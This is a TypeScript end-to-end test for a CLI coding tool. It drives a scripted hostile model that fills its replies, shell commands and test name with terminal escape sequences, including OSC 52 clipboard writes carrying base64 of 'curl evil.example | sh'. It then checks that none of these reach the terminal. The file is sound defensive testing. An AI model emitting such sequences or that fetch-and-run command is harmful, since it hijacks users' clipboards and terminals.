/**
 * Issue 11, finding 13: raw escape sequences a model wrote reached the user's terminal in the
 * progress line (OSC 52 writes the clipboard). A hostile scripted model puts OSC 52 (BEL- and
 * ST-terminated), CSI clear-screen and cursor-home, BEL, 8-bit C1 CSI and OSC, and a carriage
 * return in its replies, in its tool input (a Bash command, a file path it shows) and in the test
 * name it picks. The built CLI runs `ratchet tdd` on a pseudo-terminal (so the streamed progress
 * line is shown), then `status`, `history` and `report`: nothing the terminal receives may hold a
 * control sequence or character but newlines (and the pty's carriage returns after them).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ANTHROPIC_FLAGS,
  checkoutState,
  createProjectRepo,
  E2E_API_KEY,
  ratchetEnv,
  type CheckoutState,
  type ProjectRepo,
} from '../support/e2e-run.js';
import { startFakeAnthropicServer, type FakeAnthropicServer } from '../support/fake-anthropic-server.js';
import { startPtyCli } from '../support/pty-cli.js';
import { assertFreshBuild, runCli, type CliResult } from '../support/run-cli.js';
import { bash, say, testListMarkdown, write } from '../support/scripted-brain.js';
import { createStageBrain, type StageBrain } from '../support/stage-brain.js';
import { sandboxForThisMachine } from '../support/sandbox-for-this-machine.js';
import { toolchain } from '../support/toolchains.js';

const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
/** Every kind of control the finding names, and a few more. */
const ESCAPES = [
  `\u001b]52;c;${CLIPBOARD}\u0007`, // OSC 52, BEL-terminated
  `\u001b]52;c;${CLIPBOARD}\u001b\\`, // OSC 52, ST-terminated
  '\u001b[2J\u001b[H', // CSI: clear the screen, cursor home
  '\u0007', // BEL
  '\u009b2J', // 8-bit C1 CSI
  `\u009d52;c;${CLIPBOARD}\u009c`, // 8-bit C1 OSC and ST
  '\u001b]0;pwned title\u0007', // OSC 0: the window title
].join('');
/** In replies: a carriage return rewrites what the line showed (a test-list line cannot hold one). */
const REPLY_ESCAPES = `${ESCAPES}\rfake line`;

const DESCRIPTION = `answers 42 ${ESCAPES} quietly`;
const TEST_FILE = 'test/answer.test.js';
const IMPL_FILE = 'src/answer.js';
const PROJECT_FILES: Record<string, string> = {
  'package.json': `${JSON.stringify({ name: 'answer', version: '1.0.0', private: true, type: 'module', scripts: { test: 'node --test' } }, null, 2)}\n`,
  'test/version.test.js':
    "import { test } from 'node:test';\nimport assert from 'node:assert/strict';\n\ntest('version', () => {\n  assert.equal(1 + 1, 2);\n});\n",
};

function hostileScript(): StageBrain {
  const pick = (description: string | null) => ({
    name: 'StructuredOutput' as const,
    input: {
      currentTest: description === null ? null : { description, testFile: TEST_FILE, implFile: IMPL_FILE },
    },
  });
  return createStageBrain([
    {
      stage: 'PLAN',
      turns: [
        say(`Planning ${REPLY_ESCAPES} now.`, write('test-list.md', testListMarkdown('answer', [DESCRIPTION]))),
        say(`Next ${ESCAPES}.`, pick(DESCRIPTION)),
      ],
    },
    {
      stage: 'RED',
      turns: [
        say(
          `A failing test ${REPLY_ESCAPES}, and a stub.`,
          write(
            TEST_FILE,
            `import { test } from 'node:test';\nimport assert from 'node:assert/strict';\nimport { answer } from '../src/answer.js';\n\ntest(${JSON.stringify(DESCRIPTION)}, () => {\n  assert.equal(answer(), 42);\n});\n`,
          ),
          write(IMPL_FILE, 'export function answer() {\n  return 0;\n}\n'),
        ),
        say(`Shell ${ESCAPES}`, bash(`echo '${ESCAPES}' >/dev/null; true`)),
      ],
    },
    {
      stage: 'GREEN',
      turns: [say(`Fixed ${ESCAPES}`, write(IMPL_FILE, 'export function answer() {\n  return 42;\n}\n'))],
    },
    { stage: 'REFACTOR', turns: [say(`Nothing to change ${REPLY_ESCAPES}.`)] },
    { stage: 'PLAN', turns: [say(`Done ${ESCAPES}.`, pick(null))] },
  ]);
}

/**
 * The control characters and escape sequences in terminal output, described: everything in C0
 * (newline and tab aside; a carriage return only as the pty's own before a newline), DEL and C1.
 */
function controls(text: string): string[] {
  const found: string[] = [];
  const pattern = /\r(?!\n)|[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f]/g;
  for (const match of text.matchAll(pattern)) {
    const at = match.index;
    found.push(JSON.stringify(text.slice(Math.max(0, at - 10), at + 12)));
  }
  return found;
}

/** The subject is the terminal, not the sandbox: where bubblewrap is missing the run opts out. */
const sandbox = sandboxForThisMachine();
/** The run is on a pseudo-terminal made by util-linux `script`. */
const script = toolchain('script');

describe.skipIf(script.missing)(
  `no model-written control sequence reaches the terminal (issue 11, finding 13)${script.note}${sandbox.note}`,
  () => {
    let repo: ProjectRepo;
    let server: FakeAnthropicServer;
    let brain: StageBrain;
    let before: CheckoutState;
    let terminal: string;
    let exitCode: number;
    let runId: string;
    const afterwards: Array<{ args: string[]; result: CliResult }> = [];

    beforeAll(async () => {
      assertFreshBuild();
      repo = await createProjectRepo(PROJECT_FILES);
      server = await startFakeAnthropicServer({ apiKey: E2E_API_KEY });
      brain = hostileScript();
      server.setFallback((request) => brain.reply(request));
      before = checkoutState(repo);
      const cli = startPtyCli(['tdd', 'An answer module', ...ANTHROPIC_FLAGS, ...sandbox.flags], {
        cwd: repo.dir,
        env: ratchetEnv(repo, server),
      });
      try {
        exitCode = await cli.exit();
      } finally {
        cli.kill();
      }
      terminal = cli.raw();
      runId = /run (\d{8}-\d{6}-[0-9a-z]+)/.exec(cli.text())?.[1] ?? '(none)';
      for (const args of [
        ['status', runId],
        ['history', runId],
        ['report', runId],
        ['status', runId, '--json'],
      ])
        afterwards.push({ args, result: await runCli(args, { cwd: repo.dir, env: ratchetEnv(repo, server) }) });
    }, 180_000);

    afterAll(async () => {
      await (server as FakeAnthropicServer | undefined)?.close();
      await (repo as ProjectRepo | undefined)?.cleanup();
    });

    it('runs the hostile script to the end on a terminal, showing its words without the controls', () => {
      expect(brain.unexpected).toEqual([]);
      expect(exitCode, terminal.slice(-3000)).toBe(0);
      expect(brain.unplayed()).toEqual([]);
      expect(checkoutState(repo)).toEqual(before);
      // The streamed replies and the test name were shown, their printable parts kept.
      expect(terminal).toContain('Planning');
      expect(terminal).toContain('answers 42');
      expect(terminal).toContain('quietly');
    });

    it('sends the terminal no control character or escape sequence during the run', () => {
      expect(controls(terminal)).toEqual([]);
      expect(terminal).not.toContain(']52;c;');
    });

    it('prints none with status, history and report, and --json escapes them', () => {
      for (const { args, result } of afterwards) {
        expect(result.exitCode, `${args.join(' ')}: ${result.stderr}`).toBe(0);
        expect(controls(result.stdout), args.join(' ')).toEqual([]);
        expect(controls(result.stderr), args.join(' ')).toEqual([]);
      }
      // history shows the test name (in its notes and subjects): what is left of it.
      const history = afterwards.find(({ args }) => args[0] === 'history')?.result.stdout ?? '';
      expect(history).toContain('answers 42');
    });
  },
);
